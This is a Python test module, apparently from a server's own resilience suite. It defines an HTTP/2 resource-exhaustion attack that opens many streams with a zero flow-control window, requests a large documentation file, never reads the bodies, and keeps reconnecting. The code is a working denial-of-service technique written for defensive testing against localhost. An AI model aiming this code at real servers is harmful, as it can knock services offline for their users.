"""The largest file of the documentation is asked for on many streams of HTTP/2, and never read."""

import asyncio
import contextlib
from collections.abc import AsyncIterator

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.settings import SettingCodes

from tests.strangers.attack import Attack, Progress, Target
from tests.tasks import meanwhile

_STREAMS = 100
_AGAIN_S = 0.5


def _asked() -> bytes:
    """Returns what opens a connection and all its streams, none of which may send a byte of its body."""
    connection = H2Connection(H2Configuration(client_side=True))
    connection.initiate_connection()
    connection.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: 0})
    for _ in range(_STREAMS):
        headers = {":method": "GET", ":path": "/docs/swagger-ui-bundle.js"}
        headers |= {":scheme": "http", ":authority": "localhost"}
        stream = connection.get_next_available_stream_id()
        connection.send_headers(stream, list(headers.items()), end_stream=True)
    return connection.data_to_send()


@contextlib.asynccontextmanager
async def _hold(target: Target, count: int, progress: Progress) -> AsyncIterator[None]:
    asked = _asked()

    async def one() -> None:
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await asyncio.open_connection(*target.http)
                with contextlib.closing(writer):
                    writer.write(asked)
                    while await reader.read(1 << 16):
                        pass
            await asyncio.sleep(_AGAIN_S)

    tasks = [asyncio.create_task(one()) for _ in range(count // _STREAMS)]
    progress(count)
    async with meanwhile(tasks):
        yield


ATTACK = Attack("documents that nobody reads", "streams", 3_000, 1_000, _hold)
